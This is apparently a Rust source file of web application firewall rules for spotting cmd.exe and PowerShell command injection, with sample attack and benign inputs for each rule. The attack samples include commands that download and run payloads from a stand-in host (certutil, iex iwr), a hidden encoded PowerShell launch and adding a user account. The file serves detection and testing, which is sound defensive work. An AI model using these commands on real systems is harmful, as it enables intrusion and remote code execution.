//! Rules for `cmd.exe` and `PowerShell`, each with its proofs.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Rule, RuleMatcher, STRONG};

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[&COMMAND, &COMMAND_LIKE, &POWERSHELL, &POWERSHELL_LIKE];

pub(super) static COMMAND: Rule = Rule {
    id: "command-injection-windows-cmd/command-line",
    leaf: Leaf::CommandInjectionWindowsCmd,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A program or construct of cmd.exe stands in a command's place.",
    attacks: &[
        "& dir c:\\",
        "| type %SystemRoot%\\win.ini",
        "x & net user guest2 Secret1 /add",
        "for /f \"tokens=*\" %i in ('dir /b') do echo %i",
        "if not exist c:\\flag.txt echo yes",
        "& certutil -urlcache -f http://drop.example/a.exe a.exe",
        "| ipconfig /all",
    ],
    benign: &[
        "R&D",
        "Terms & conditions",
        "type | size | colour",
        "if a == b then we are done",
        "for 20 % in advance (or more) do call us",
        "if it does exist, copy it",
        "C:\\Program Files\\Common Files\\start.txt",
    ],
};

pub(super) static COMMAND_LIKE: Rule = Rule {
    id: "command-injection-windows-cmd/command-like",
    leaf: Leaf::CommandInjectionWindowsCmd,
    weight: 1,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "Something that could be a command of cmd.exe, or prose about one.",
    attacks: &["we tried it all; ipconfig", "certutil -v", "bcdedit -v"],
    benign: &["start & end", "copy | paste", "move; rename; delete"],
};

pub(super) static POWERSHELL: Rule = Rule {
    id: "command-injection-powershell/command",
    leaf: Leaf::CommandInjectionPowershell,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A cmdlet, its alias or an encoded command of PowerShell.",
    attacks: &[
        "Invoke-WebRequest http://drop.example/a.ps1",
        ";iex (iwr http://drop.example/a.ps1)",
        "powershell -nop -w hidden -e SQBFAFgA",
        "$c = New-Object Net.WebClient",
        "| Start-Process calc.exe -Verb runas",
    ],
    benign: &[
        "a set-top box and a start-up",
        "the PowerShell course starts on Monday",
        "write-off of the new-item stock",
        "i.e. (see above)",
    ],
};

pub(super) static POWERSHELL_LIKE: Rule = Rule {
    id: "command-injection-powershell/cmdlet",
    leaf: Leaf::CommandInjectionPowershell,
    weight: 1,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A cmdlet of PowerShell is named in a text.",
    attacks: &[
        "the Get-Process cmdlet lists them",
        "use Invoke-RestMethod here",
        "what does Get-ChildItem do",
    ],
    benign: &["out-of-date", "get-together", "add-on service"],
};
